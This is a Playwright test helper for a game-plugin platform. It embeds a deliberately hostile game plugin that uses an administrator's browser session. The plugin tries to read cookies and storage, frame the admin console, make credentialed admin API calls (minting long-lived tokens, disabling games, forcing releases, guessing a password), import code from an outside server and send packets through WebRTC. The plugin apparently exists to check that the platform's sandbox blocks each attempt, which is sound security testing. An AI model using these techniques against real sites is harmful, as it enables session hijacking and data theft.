import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { addAlteredGame } from './altered-game.ts';

/** Result of each attack: status and code of a response, `open`, or `blocked`. */
export type Loot = Record<string, string>;

/**
 * A game as a malicious team could publish it. It uses the administrator's session in the same browser. When it deals,
 * it attacks the origin in its orders, which a test puts into its storage, one attack after the other.
 */
const HOSTILITY = `
import game from './orderly-game.ts';

// The build contains the names of the page, but not another name of the window.
const page = window;

async function call(origin, method, path, body) {
  try {
    const answer = await page.fetch(origin + path, {
      method,
      credentials: 'include',
      ...(body && { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
    });
    return answer.ok ? String(answer.status) : answer.status + ' ' + (await answer.json()).code;
  } catch {
    return 'blocked';
  }
}

const pause = (ms) => new Promise((resolve) => page.setTimeout(resolve, ms));

/** Whether a document of the console can be read. */
async function look(documentOf) {
  for (let tries = 0; tries < 20; tries += 1) {
    try {
      if (documentOf().querySelector('form, h1, [role=tab]')) return 'open';
    } catch {}
    await pause(100);
  }
  return 'blocked';
}

/** Sends a packet to a UDP port of this machine by WebRTC. */
async function sendPacket(port) {
  const connection = new page.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
  connection.createDataChannel('out');
  await connection.setLocalDescription(await connection.createOffer());
  for (let tries = 0; tries < 10 && connection.iceGatheringState !== 'complete'; tries += 1) await pause(100);
}

function tryTo(action) {
  return Promise.resolve().then(action).then(() => 'open', () => 'blocked');
}

/** What the code reaches in the browser. \`out\` is the address of a server of the team. */
async function reach(out) {
  const code = page.URL.createObjectURL(new page.Blob(['export default 1'], { type: 'text/javascript' }));
  return {
    cookies: await tryTo(() => page.document.cookie),
    storage: page.localStorage.getItem('sl:planted') === null ? 'blocked' : 'open',
    database: await tryTo(() => new Promise((resolve, reject) => {
      Object.assign(page.indexedDB.open('stolen'), { onsuccess: resolve, onerror: reject });
    })),
    caches: await tryTo(() => page.caches.keys()),
    pageContent: await tryTo(() => page.top.document.querySelector('h1').textContent),
    pageAddress: await tryTo(() => page.top.location.href),
    serviceWorker: await tryTo(async () => {
      if (!(await page.navigator.serviceWorker.getRegistrations())) throw new Error();
    }),
    popup: page.open('about:blank') ? 'open' : 'blocked',
    request: await tryTo(() => page.fetch(out, { mode: 'no-cors' })),
    picture: await tryTo(() => new Promise((resolve, reject) => {
      Object.assign(new page.Image(), { onload: resolve, onerror: reject, src: out + '/pixel.svg' });
    })),
    module: await tryTo(() => import(/* @vite-ignore */ out + '/code.js')),
    blobModule: await tryTo(() => import(/* @vite-ignore */ code)),
    evaluation: await tryTo(() => new page.Function('return 1')()),
    worker: await tryTo(() => new Promise((resolve, reject) => {
      Object.assign(new page.Worker(code), { onerror: reject });
      page.setTimeout(resolve, 500);
    })),
  };
}

async function attack(origin) {
  const key = 'memo-game';
  const id = await page.fetch('/api/games').then((answer) => answer.json()).then(
    (games) => games.find((game) => game.key === key).id,
    () => 8,
  );
  const plugin = '/api/admin/plugins/' + key;
  const reason = 'an update';
  const frame = page.document.createElement('iframe');
  frame.src = origin + '/admin';
  page.document.body.append(frame);
  const opened = page.open(origin + '/admin');
  return {
    window: await look(() => opened.document),
    frame: await look(() => frame.contentDocument),
    policy: await tryTo(() => page.trustedTypes.createPolicy('default', { createHTML: (html) => html })),
    passkey: await tryTo(() =>
      page.navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 100 } }),
    ),
    session: await call(origin, 'GET', '/api/admin/session'),
    feedback: await call(origin, 'GET', '/api/admin/feedback'),
    tokens: await call(origin, 'GET', plugin + '/tokens'),
    toggle: await call(origin, 'PATCH', '/api/admin/games/' + id, { isActive: false }),
    token: await call(origin, 'POST', plugin + '/tokens', { name: 'mine', days: 365 }),
    release: await call(origin, 'POST', plugin + '/release', { version: '1.0.0', reason }),
    rollback: await call(origin, 'POST', plugin + '/rollback', { reason }),
    restore: await call(origin, 'POST', plugin + '/restore', { reason }),
    password: await call(origin, 'POST', '/api/admin/session/password-proof', { password: 'a good guess, perhaps' }),
  };
}

export default {
  ...game,
  deal(context) {
    // The address of a frame differs from that of its page.
    const { target, udp, out } = JSON.parse(context.services.storage.read('orders'));
    const attacks = async () => {
      await sendPacket(udp);
      return { ...(await attack(target)), ...(out && (await reach(out))) };
    };
    attacks().then((loot) => Object.assign(page, { loot }), (error) => Object.assign(page, { loot: String(error) }));
    return game.deal(context);
  },
};
`;

const KEY = 'bad-faith';

export function addHostileGame(plugins: string): void {
  addAlteredGame(plugins, { key: KEY, of: 'logo-game', name: 'Hostile Game', code: HOSTILITY });
}

/** Starts a server of the team, which every request must reach to be one that the game could make. */
export async function listenOutside(): Promise<{ url: string; requests(): number; stop(): void }> {
  let requests = 0;
  const server = createServer((_request, response) => {
    requests += 1;
    response.setHeader('access-control-allow-origin', '*').end('export default 1');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, requests: () => requests, stop: () => void server.close() };
}

/**
 * Plays the hostile game in a page of the site, and returns the results of its attacks on an origin.
 * @param out address of a server that the game tries to reach; without it, only the attacks on the origin
 */
export async function playHostileGame(page: Page, site: string, target: string, out?: string): Promise<Loot> {
  let webrtc = 'blocked';
  const listener = createSocket('udp4', () => (webrtc = 'open'));
  try {
    await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
    await page.goto(`${site}/${KEY}`);
    const orders = JSON.stringify({ target, udp: listener.address().port, out });
    await page.evaluate((text) => {
      localStorage.setItem('sl:game-data:bad-faith:orders', text);
      localStorage.setItem('sl:planted', 'yes');
    }, orders);
    await page.reload();
    await page.getByRole('button', { name: 'Start', exact: true }).click();
    const place = page.frames().find((frame) => frame.url().endsWith('/frame')) ?? page.mainFrame();
    const loot = await place.waitForFunction(() => (window as unknown as { loot?: Loot }).loot);
    return { ...(await loot.jsonValue())!, webrtc };
  } finally {
    listener.close();
  }
}
